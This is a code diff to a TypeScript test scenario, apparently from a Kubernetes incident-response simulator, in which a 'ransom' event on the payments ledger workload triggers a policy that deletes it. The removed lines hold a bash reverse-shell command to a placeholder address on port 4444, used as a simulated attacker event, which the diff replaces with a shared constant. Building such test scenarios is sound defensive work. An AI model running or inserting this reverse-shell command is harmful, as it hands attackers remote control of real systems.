@@ -1,10 +1,9 @@
 import { fileURLToPath } from 'node:url';
 import type { Scenario } from './scenario.ts';
-import { execEvent } from './shop.ts';
+import { execEvent, REVERSE_SHELL } from './shop.ts';
 
 const NAMESPACE = 'payments';
 const APP = 'ledger';
-const COMMAND = 'bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1';
 
 /**
  * Somebody encrypts the payments. Expected end: the policy deletes the workload without asking and without waiting for
@@ -18,7 +17,7 @@ export const ransom: Scenario = {
     'The policy of this scenario stops the workload without waiting for evidence, and deletes it without asking.',
   ],
   policy: fileURLToPath(new URL('ransom.policy.yaml', import.meta.url)),
-  events: (world, now) => [execEvent(world, now, { namespace: NAMESPACE, app: APP, command: COMMAND })],
+  events: (world, now) => [execEvent(world, now, { namespace: NAMESPACE, app: APP, command: REVERSE_SHELL })],
   missing: (incidents) => {
     const incident = incidents.find(({ target }) => target.namespace === NAMESPACE);
     if (incident === undefined) return [`no incident on a pod of ${NAMESPACE}/${APP} was opened`];
